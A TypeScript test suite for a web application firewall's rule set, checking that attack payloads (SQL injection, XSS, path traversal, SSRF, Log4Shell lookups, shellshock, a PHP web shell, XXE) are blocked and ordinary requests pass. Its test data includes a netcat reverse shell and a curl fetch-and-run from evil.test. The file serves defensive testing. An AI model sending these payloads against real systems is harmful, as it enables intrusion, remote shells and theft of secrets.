// The rules that ship: plain attacks are refused wherever they stand, ordinary requests are not.
import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import { createTestWaf, posted, type TestRequest, type TestWaf, withHeader } from './setup.ts'

const form = 'application/x-www-form-urlencoded'
const json = 'application/json'
const encode = encodeURIComponent

function multipart(...parts: readonly string[]): TestRequest {
  const body = `${parts.map((part) => `--b\r\nContent-Disposition: form-data; ${part}\r\n`).join('')}--b--\r\n`
  return posted('multipart/form-data; boundary=b', body)
}

/** The same payload in each place where an application may read it. */
function everywhere(payload: string): [place: string, request: TestRequest][] {
  return [
    ['query', { uri: `/items?q=${encode(payload)}` }],
    ['form', posted(form, `a=1&q=${encode(payload)}`)],
    ['JSON', posted(json, JSON.stringify({ a: [1, { deep: [{ q: payload }] }] }))],
    ['JSON with escapes', posted(json, `{"q":"${escapeAll(payload)}"}`)],
    ['multipart', multipart(`name="q"\r\n\r\n${payload}`)],
    [
      'XML',
      posted('application/xml', `<a><b>${payload.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</b></a>`),
    ],
    ['XML in a section', posted('text/xml', `<a><![CDATA[${payload}]]></a>`)],
  ]
}

function escapeAll(text: string): string {
  return Array.from(Buffer.from(text, 'latin1'), (byte) => `\\u00${byte.toString(16).padStart(2, '0')}`).join(
    '',
  )
}

const payloads: readonly [rule: number, payload: string][] = [
  [9500050, "1' OR '1'='1"],
  [9500050, "' UNION SELECT name, password FROM users--"],
  [9500050, '1; DROP TABLE users--'],
  [9500050, "1' AND SLEEP(5)#"],
  [9500051, '<script>alert(1)</script>'],
  [9500051, '"><img src=x onerror=alert(1)>'],
  [9500051, '<svg/onload=alert(1)>'],
  [9500041, '../../../../etc/passwd'],
  [9500041, '..\\..\\windows\\win.ini'],
  [9500042, '/etc/passwd'],
  [9500042, 'file=/proc/self/environ'],
  [9500045, 'http://169.254.169.254/latest/meta-data/'],
  [9500052, '; cat /etc/hosts'],
  [9500052, 'x | nc -e /bin/sh 10.0.0.1 4444'],
  [9500052, '$(curl http://evil.test/x.sh)'],
  [9500053, '127.0.0.1; id'],
  [9500055, '${jndi:ldap://evil.test/a}'],
  [9500055, '${${lower:j}ndi:ldap://evil.test/a}'],
  [9500055, '${${::-j}ndi:rmi://evil.test/a}'],
]

const elsewhere: readonly [title: string, rule: number, request: TestRequest][] = [
  ['a null byte in the path', 9500020, { uri: '/items/a%00.png' }],
  ['a null byte in an argument', 9500021, posted(json, '{"name":"a\\u0000.png"}')],
  ['a split answer', 9500022, { uri: '/go?to=a%0d%0aSet-Cookie:%20x=1' }],
  ['a scanner', 9500030, withHeader('User-Agent', 'sqlmap/1.8#stable (https://sqlmap.org)')],
  ['encoded dots', 9500040, { uri: '/static/%2e%2e/%2e%2e/etc/passwd' }],
  ['dots encoded twice', 9500040, { uri: '/static/%252e%252e%252fetc/passwd' }],
  ['many steps up', 9500040, { uri: '/static/../../../../etc/passwd' }],
  ['overlong dots', 9500040, { uri: '/static/%c0%ae%c0%ae/etc/passwd' }],
  ['a repository', 9500043, { uri: '/.git/config' }],
  ['settings with secrets', 9500043, { uri: '/app/.env' }],
  ['a PHP wrapper', 9500044, { uri: '/?page=php://filter/convert.base64-encode/resource=index' }],
  ['SQL in the last segment', 9500050, { uri: `/items/${encode("1' OR '1'='1")}` }],
  ['script in the path', 9500051, { uri: `/${encode('<script>alert(1)</script>')}` }],
  ['shellshock', 9500054, withHeader('Referer', '() { :;}; /bin/bash -c "id"')],
  ['a look-up in a header', 9500055, withHeader('X-Api-Version', '${jndi:ldap://evil.test/a}')],
  ['a look-up in the path', 9500055, { uri: `/${encode('${jndi:ldap://evil.test/a}')}` }],
  ['a class loader', 9500056, posted(form, 'class.module.classLoader.resources.context.parent=x')],
  ['a prototype', 9500057, posted(json, '{"__proto__":{"admin":true}}')],
  ['a prototype in a query', 9500057, { uri: '/?__proto__[admin]=1' }],
  ['a web shell as text', 9500058, posted(form, `c=${encode('<?php system($_GET[1]); ?>')}`)],
  ['OGNL', 9500059, withHeader('Content-Type', "%{(#_='multipart/form-data').(#dm=@java.lang.Runtime@x)}")],
  ['a program as an upload', 9500060, multipart('name="f"; filename="shell.php"\r\n\r\nx')],
  [
    'a program under another name',
    9500060,
    multipart('name="f"; filename="a.png"; filename*=UTF-8\'\'shell.ph%70\r\n\r\nx'),
  ],
  ['a key of an empty object', 9500051, posted(json, '{"<script>alert(1)</script>":{}}')],
  ['the second of two members', 9500050, posted(json, `{"q":"ok","q":"1' OR '1'='1"}`)],
  ['a name of an argument', 9500051, { uri: `/?${encode('<script>alert(1)</script>')}=1` }],
  ['UTF-7', 9500010, posted('application/x-www-form-urlencoded; charset=utf-7', 'q=+ADw-script')],
  ['EBCDIC', 9500010, posted('application/x-www-form-urlencoded; charset="IBM037"', 'q=1')],
  [
    'a part in base64',
    9500011,
    multipart('name="q"\r\nContent-Transfer-Encoding: base64\r\n\r\nMScgT1IgJzEnPScx'),
  ],
  ['a part in UTF-16', 9500012, multipart('name="q"\r\nContent-Type: text/plain; charset=utf-16\r\n\r\nx')],
]

const bodies: readonly [title: string, request: TestRequest][] = [
  ['JSON that is none', posted(json, `{"q":"1' OR '1'='1",`)],
  ['JSON in UTF-16', posted(json, Buffer.from('{"q":1}', 'utf16le'))],
  ['JSON that is too deep', posted(json, '['.repeat(5_000) + ']'.repeat(5_000))],
  [
    'XML with entities of its own',
    posted('text/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  ],
  [
    'multipart without an end',
    posted('multipart/form-data; boundary=b', '--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n1'),
  ],
  ['multipart with two boundaries', posted('multipart/form-data; boundary=b; boundary=c', '--b--\r\n')],
  ['a form with too many fields', posted(form, 'a=1&'.repeat(20_000))],
]

const prose =
  "It's 5 o'clock & we're done: select the best option from the menu, or drop by later; 1 + 1 = 2 -- isn't it? Union members: please update your records (where needed)."
const benign: readonly [title: string, request: TestRequest][] = [
  ['a plain GET', {}],
  ['a search', { uri: '/items?q=red+shoes+size+42&sort=-price&page=2' }],
  ['names with quotes', { uri: "/people?name=O'Brien&city=L'Aquila" }],
  ['prose', posted(json, JSON.stringify({ text: prose }))],
  ['prose in a form', posted(form, `text=${encode(prose)}`)],
  [
    'an address',
    posted(json, JSON.stringify({ url: 'https://example.com/a/b?c=d&e=f#g', email: 'a.b+c@example.com' })),
  ],
  ['numbers', posted(json, JSON.stringify({ values: Array.from({ length: 500 }, (_, i) => i / 7) }))],
  [
    'Markdown',
    posted(
      json,
      JSON.stringify({
        text: '# Title\n\n- one\n- *two*\n\n`ls -la` lists | all |\n\n```sh\ncurl -s https://a.test\n```',
      }),
    ),
  ],
  ['Unicode', posted(json, JSON.stringify({ name: 'Zoë 🦊 Ångström', text: '一二三 — «quoted» …' }))],
  ['a token', withHeader('Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZGEifQ.c2lnbmF0dXJl')],
  ['a UUID', { uri: '/items/0190b6c4-0000-7000-8000-000000000001' }],
  ['a date range', { uri: '/items?from=2026-01-01T00:00:00Z&to=2026-12-31T23:59:59%2B02:00' }],
  ['a percent sign', { uri: '/items?discount=10%25&q=100%' }],
  [
    'an upload',
    multipart(
      'name="title"\r\n\r\nHolidays',
      'name="f"; filename="Räte & co (1).pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n--\n<script>',
    ),
  ],
  [
    'XML',
    posted(
      'application/xml; charset=UTF-8',
      '<?xml version="1.0"?><order id="7"><item sku="a-1">Bolt &amp; nut</item></order>',
    ),
  ],
  ['template text', posted(json, JSON.stringify({ text: 'Hello ${name}, you owe {{amount}} %s' }))],
  ['a cookie', withHeader('Cookie', 'session=abc123; theme=dark; consent={"a":1}')],
  ['a relative path', posted(json, JSON.stringify({ path: '../images/logo.png', glob: 'src/**/*.ts' }))],
  ['a filter', { uri: '/items?filter=price%20gt%2010%20and%20name%20eq%20%27x%27' }],
  [
    'base64',
    posted(json, JSON.stringify({ data: Buffer.from('any old bytes \0\x01\xff').toString('base64') })),
  ],
]

describe('the rules that ship', () => {
  let waf: TestWaf
  before(async () => {
    waf = await createTestWaf({ rules: ['@baseline'] })
  })

  for (const [rule, payload] of payloads) {
    for (const [place, request] of everywhere(payload)) {
      it(`refuse ${payload} as ${place}`, () => {
        const { verdict, matched } = waf.test(request)
        assert.equal(verdict, 'block')
        // Steps up are seen in the request target before they are seen in an argument of it.
        const early = place === 'query' && rule === 9500041 ? 9500040 : rule
        assert.ok(
          matched.some(({ id }) => id === early),
          JSON.stringify(matched),
        )
      })
    }
  }

  for (const [title, rule, request] of elsewhere) {
    it(`refuse ${title}`, () => {
      const { verdict, matched, inboundScore } = waf.test(request)
      assert.equal(verdict, 'block')
      assert.equal(matched[0]?.id, rule, JSON.stringify(matched))
      assert.equal(inboundScore, 5)
    })
  }

  for (const [title, request] of bodies) {
    it(`refuse ${title}`, () => assert.equal(waf.test(request).verdict, 'block'))
  }

  for (const [title, request] of benign) {
    it(`let ${title} pass`, () => {
      assert.deepEqual(waf.test(request), {
        matched: [],
        inboundScore: 0,
        outboundScore: 0,
        verdict: 'allow',
      })
    })
  }
})
